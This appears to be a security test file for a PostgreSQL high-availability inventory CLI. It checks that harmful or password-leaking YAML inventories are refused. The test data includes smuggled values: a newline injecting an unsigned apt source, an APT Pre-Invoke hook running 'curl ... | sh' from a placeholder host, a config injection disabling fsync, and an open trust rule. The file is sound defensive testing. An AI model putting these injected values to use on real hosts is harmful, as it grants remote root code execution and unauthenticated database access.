// Inventories written to harm the hosts or to leak a password, through the real CLI
// (`hapg check`): each is refused before any host is contacted, with exit code 2 and exactly
// one line on stderr, and a password written in the inventory appears in no output. The CLI
// runs in a network namespace without interfaces, so even a bug could reach no address.
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { execa } from 'execa';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

const BIN = path.resolve('bin/hapg.js');
const PASSWORD = 'Tr0ub4dor&3 correct horse';

/** An inventory of three hosts, one etcd and one cluster, with `extra` YAML inside the cluster and `top` at the top level. */
function inventory(opts: { cluster?: string; top?: string; before?: string } = {}): string {
  return `${opts.before ?? ''}hosts:
  pg1: { address: 192.0.2.11 }
  pg2: { address: 192.0.2.12 }
  pg3: { address: 192.0.2.13 }
etcd:
  dc1:
    hosts: [pg1, pg2, pg3]
clusters:
  main:
    hosts: [pg1, pg2, pg3]
${opts.cluster ?? ''}${opts.top ?? ''}`;
}

interface Case {
  name: string;
  text: string;
  /** The path the one line must name. */
  path: string;
  /** Text that must appear in no output (a password). */
  secret?: string;
}

const HARMFUL: Case[] = [
  {
    name: 'apt mirror with a newline adding an unsigned source',
    text: inventory({ top: 'packages:\n  mirror: "http://deb.example.net/debian\\ndeb [trusted=yes] http://203.0.113.66/debian"\n' }),
    path: 'packages.mirror',
  },
  {
    name: 'apt proxy with a newline adding a Pre-Invoke hook run as root',
    text: inventory({ top: 'packages:\n  apt_proxy: "http://192.0.2.1:3142/\\";\\nAPT::Update::Pre-Invoke {\\"curl -s http://203.0.113.66/x|sh\\";};\\n//"\n' }),
    path: 'packages.apt_proxy',
  },
  { name: 'data_dir /pgdata (hands / to postgres)', text: inventory({ cluster: '    postgres: { data_dir: /pgdata }\n' }), path: 'clusters.main.postgres.data_dir' },
  {
    name: 'data_dir /var/lib/pgsql (hands /var/lib to postgres)',
    text: inventory({ cluster: '    postgres: { data_dir: /var/lib/pgsql }\n' }),
    path: 'clusters.main.postgres.data_dir',
  },
  { name: 'data_dir /', text: inventory({ cluster: '    postgres: { data_dir: / }\n' }), path: 'clusters.main.postgres.data_dir' },
  {
    name: 'a parameter with a newline (postgresql.conf unreadable on every member)',
    text: inventory({ cluster: '    postgres:\n      parameters:\n        work_mem: "64MB\\nfsync = off"\n' }),
    path: 'clusters.main.postgres.parameters.work_mem',
  },
  {
    name: 'pg_hba trust from the network without allow_trust',
    text: inventory({ cluster: '    postgres:\n      hba:\n        - { type: host, database: all, user: all, address: 0.0.0.0/0, method: trust }\n' }),
    path: 'clusters.main.postgres.hba[0].method',
  },
];

const LEAKS: Case[] = [
  { name: 'the password as an env name', text: inventory({ cluster: `    secrets:\n      superuser: { env: "${PASSWORD}" }\n` }), path: 'clusters.main.secrets.superuser.env', secret: 'Tr0ub4dor' },
  {
    name: 'a password that passes for an env name, with a dash',
    text: inventory({ cluster: '    secrets:\n      superuser: { env: Tr0ub4dor-3 }\n' }),
    path: 'clusters.main.secrets.superuser.env',
    secret: 'Tr0ub4dor',
  },
  { name: 'the password as a bare string', text: inventory({ cluster: `    secrets:\n      superuser: "${PASSWORD}"\n` }), path: 'clusters.main.secrets.superuser', secret: 'Tr0ub4dor' },
  { name: 'a number where a file belongs', text: inventory({ cluster: '    secrets:\n      superuser: { file: 987654321 }\n' }), path: 'clusters.main.secrets.superuser', secret: '987654321' },
  {
    name: 'the password in an extra key of the reference',
    text: inventory({ cluster: `    secrets:\n      superuser: { env: HAPG_SU, value: "${PASSWORD}" }\n` }),
    path: 'clusters.main.secrets.superuser',
    secret: 'Tr0ub4dor',
  },
  {
    name: 'the password as a key of the reference',
    text: inventory({ cluster: '    secrets:\n      superuser: { Tr0ub4dor3correct }\n' }),
    path: 'clusters.main.secrets.superuser',
    secret: 'Tr0ub4dor',
  },
  {
    name: 'the password behind a YAML alias in another field',
    text: `clusters:
  main:
    hosts: [pg1]
    postgres:
      users:
        app: { password: { file: &pw "${PASSWORD}" } }
etcd:
  dc1: { hosts: [pg1] }
hosts:
  pg1: { address: *pw }
`,
    path: 'hosts.pg1.address',
    secret: 'Tr0ub4dor',
  },
  {
    name: 'a duplicate key carrying the password',
    text: inventory({ cluster: `    secrets:\n      superuser: { env: HAPG_SU }\n      superuser: "${PASSWORD}"\n` }),
    path: 'clusters.main.secrets',
    secret: 'Tr0ub4dor',
  },
];

let dir: string;

beforeAll(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'hapg-security-'));
});

afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

async function check(name: string, text: string) {
  const file = path.join(dir, `${name.replace(/[^a-z0-9]+/giu, '-')}.yml`);
  await writeFile(file, text);
  const result = await execa('unshare', ['--net', '--', process.execPath, BIN, 'check', '-i', file], { reject: false, env: { HAPG_SU: 'long-enough-su-password' } });
  return { file, ...result };
}

describe.each([
  ['harms a host', HARMFUL],
  ['leaks a password', LEAKS],
])('an inventory that %s', (_kind, cases) => {
  it.each(cases)('is refused: $name', async ({ name, text, path: at, secret }) => {
    const r = await check(name, text);
    expect(r.exitCode).toBe(2);
    expect(r.stdout).toBe('');
    expect(r.stderr.split('\n')).toHaveLength(1);
    expect(r.stderr).toMatch(new RegExp(`^hapg: ${at.replace(/[.[\]]/gu, '\\$&')}: .* \\(${r.file.replace(/[.[\]/]/gu, '\\$&')}:\\d+\\)$`, 'u'));
    if (secret !== undefined) {
      expect(text).toContain(secret);
      expect(r.stdout + r.stderr).not.toContain(secret);
    }
  });
});
